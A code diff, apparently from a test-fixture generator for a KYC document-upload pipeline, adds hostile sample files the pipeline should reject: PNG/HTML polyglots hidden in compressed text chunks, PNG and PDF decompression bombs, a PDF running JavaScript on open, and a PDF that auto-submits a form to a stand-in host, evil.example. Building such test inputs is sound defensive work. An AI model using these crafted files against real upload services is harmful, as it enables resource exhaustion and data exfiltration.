@@ -58,6 +58,12 @@ function raw(width: number, height: number, channels: 1 | 3 | 4, low: number, hi
   return sharp(noise(width, height, channels, low, high, seed), { raw: { width, height, channels } as Raw });
 }
 
+/** A PDF object stream (PDF 1.5+) holding `objects`, FlateDecode-compressed. */
+function objectStream(objects: string | Buffer): string {
+  const data = deflateSync(typeof objects === 'string' ? Buffer.from(objects, 'latin1') : objects, { level: 9 });
+  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
+}
+
 /** A PNG chunk with its length and CRC-32. */
 function pngChunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
@@ -531,6 +537,44 @@ export async function hostileFiles(config: KycConfig): Promise<HostileFile[]> {
     { declaredType: 'image/png' },
   );
 
+  // Compressed ancillary chunks: opened (within a budget) before the payload search.
+  add(
+    'png-html-in-ztxt',
+    'PNG/HTML polyglot',
+    'UNSUPPORTED_FORMAT',
+    withChunksAfterHeader(
+      png,
+      pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(html)])),
+    ),
+    { declaredType: 'image/png' },
+  );
+  add(
+    'png-script-in-compressed-itxt',
+    'PNG/HTML polyglot',
+    'UNSUPPORTED_FORMAT',
+    withChunksAfterHeader(
+      png,
+      pngChunk('iTXt', Buffer.concat([Buffer.from('Description\0\x01\0en\0\0', 'latin1'), deflateSync(html)])),
+    ),
+    { declaredType: 'image/png' },
+  );
+  for (const chunkType of ['zTXt', 'iCCP']) {
+    // 200 MB of zeros in 200 KB: libvips inflates an iCCP chunk whole before the first pixel.
+    const bomb = Buffer.concat([
+      Buffer.from('bomb\0\0', 'latin1'),
+      deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }),
+    ]);
+    add(
+      `png-${chunkType.toLowerCase()}-bomb`,
+      'metadata bomb',
+      'UNSUPPORTED_FORMAT',
+      withChunksAfterHeader(png, pngChunk(chunkType, bomb)),
+      {
+        declaredType: 'image/png',
+      },
+    );
+  }
+
   // Formats the pipeline does not take (decided by the bytes, whatever the name says).
   // Refused on their magic bytes before any size check, so small ones do (AVIF and GIF encoders are slow).
   const source = () => raw(96, 96, 3, 0, 255, 12);
@@ -698,6 +742,27 @@ export async function hostileFiles(config: KycConfig): Promise<HostileFile[]> {
     'PDF with attachment',
     'UNSUPPORTED_FORMAT',
     pdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>'] }),
+    poa,
+  );
+  add(
+    'pdf-javascript-in-object-stream',
+    'PDF with JavaScript',
+    'UNSUPPORTED_FORMAT',
+    pdf({ catalogExtra: '/OpenAction 6 0 R', objects: [objectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>')] }),
+    poa,
+  );
+  add(
+    'pdf-object-stream-bomb',
+    'PDF decompression bomb',
+    'UNSUPPORTED_FORMAT',
+    pdf({ objects: [objectStream(Buffer.alloc(200 * 1024 * 1024))] }),
+    poa,
+  );
+  add(
+    'pdf-submit-form-action',
+    'PDF with form submission',
+    'UNSUPPORTED_FORMAT',
+    pdf({ catalogExtra: '/OpenAction 5 0 R', objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }),
     poa,
   );
   add('pdf-truncated', 'truncated PDF', 'FILE_CORRUPT', pdf({ eof: false }), poa);
